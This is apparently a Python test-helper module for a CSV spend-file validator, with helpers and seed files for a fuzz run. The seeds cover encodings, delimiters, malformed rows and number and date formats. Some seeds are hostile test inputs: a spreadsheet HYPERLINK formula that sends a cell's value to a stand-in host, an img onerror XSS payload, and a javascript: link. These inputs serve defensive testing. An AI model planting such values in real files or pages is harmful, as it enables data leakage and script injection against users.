"""Helpers for the trust matrix tests (`../shared/TEST-MATRIX.md`, README "Trust matrix"): read a
file through the public validator, and the A-case files themselves, which also seed the loader's
fuzz run (J94)."""

from __future__ import annotations

import datetime as dt

import pandas as pd

from metrics.validation import ERROR, WARNING, FileInfo, Finding, ReadOptions, read_table

TODAY = dt.date(2026, 6, 30)
SPEND_HEADER = "date,department,vendor,category,amount,invoice_id"


def lines(*rows: str, end: str = "\n") -> bytes:
    return (end.join(rows) + end).encode("utf-8")


def spend(*rows: str, header: str = SPEND_HEADER) -> bytes:
    return lines(header, *rows)


def row(i: int = 1, *, date: str = "2026-02-14", vendor: str = "Acme", amount: str = "5", sep: str = ",") -> str:
    return sep.join((date, "IT", vendor, "CRM", amount, f"INV-{i}"))


def read(data: bytes, table: str = "spend", **options) -> tuple[pd.DataFrame | None, list[Finding], FileInfo]:
    frame, findings, info = read_table(table, f"{table}.csv", data, ReadOptions(today=TODAY, **options))
    assert info is not None
    return frame, findings, info


def errors(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity == ERROR]


def warnings(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity == WARNING]


def only_error(findings: list[Finding]) -> Finding:
    found = errors(findings)
    assert len(found) == 1, "\n".join(map(str, findings))
    return found[0]


def clean(data: bytes, table: str = "spend", **options) -> pd.DataFrame:
    """The frame of a file that must read without errors."""
    frame, findings, _ = read(data, table, **options)
    assert not errors(findings), "\n".join(map(str, findings))
    assert frame is not None
    return frame


# The A-case files (one or two per case), the seed corpus of the fuzz run (J94).
SEED_FILES: dict[str, bytes] = {
    "A01_bom": "\ufeff".encode() + spend(row()),
    "A02_cp1252": spend(row(vendor="Société €")).decode().encode("cp1252"),
    "A03_utf16": ("\ufeff" + SPEND_HEADER.replace(",", "\t") + "\n" + row(sep="\t") + "\n").encode("utf-16-le"),
    "A05_semicolon": lines(SPEND_HEADER.replace(",", ";"), row(amount="1234,56", sep=";")),
    "A07_pipe": lines(SPEND_HEADER.replace(",", "|"), row(sep="|")),
    "A08_quoted_newline": spend(row() + ',"a,b\nc"', header=SPEND_HEADER + ",description"),
    "A09_unterminated": spend(row(1), '2026-02-14,IT,"Acme,CRM,5,INV-2', row(3)),
    "A10_more_fields": spend(row(1), row(2) + ",extra"),
    "A11_fewer_fields": spend(row(1), "2026-02-14,IT,Acme,CRM,5"),
    "A12_empty": b"",
    "A13_header_only": spend(),
    "A15_duplicate": spend(row() + ",7", header=SPEND_HEADER + ",amount"),
    "A20_thousands": spend(row(amount='"1,234,567.89"'), row(2, amount="1’234.50")),
    "A21_signs": spend(row(amount='"(1,500)"'), row(2, amount="1500-"), row(3, amount='"$1,200"')),
    "A23_dates": spend(row(date="45291"), row(2, date="2024-02-30"), row(3, date="03/04/2026")),
    "A24_mixed": spend(row(amount="TBD"), row(2, amount="n/a")),
    "A26_huge": spend(row(amount="1E+308"), row(2, amount="inf"), row(3, amount="NaN")),
    "A27_invisible": spend(row(vendor="Acme\u00a0"), row(2, vendor="\u200bAcme")),
    "A28_cr_only": spend(row(1), row(2)).replace(b"\n", b"\r"),
    "A29_sep_hint": lines("sep=;", SPEND_HEADER.replace(",", ";"), row(sep=";")),
    "A30_formula": spend(row(vendor='"=HYPERLINK(""http://x?""&A1)"')),
    "A31_markup": spend(row(vendor="<img src=x onerror=alert(1)>"), row(2, vendor="[x](javascript:alert(1))")),
    "A34_xlsx": b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64,
    "A34_png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "A36_reserved": spend(row() + ",999,7", header=SPEND_HEADER + ",amount_original,fx_rate"),
}
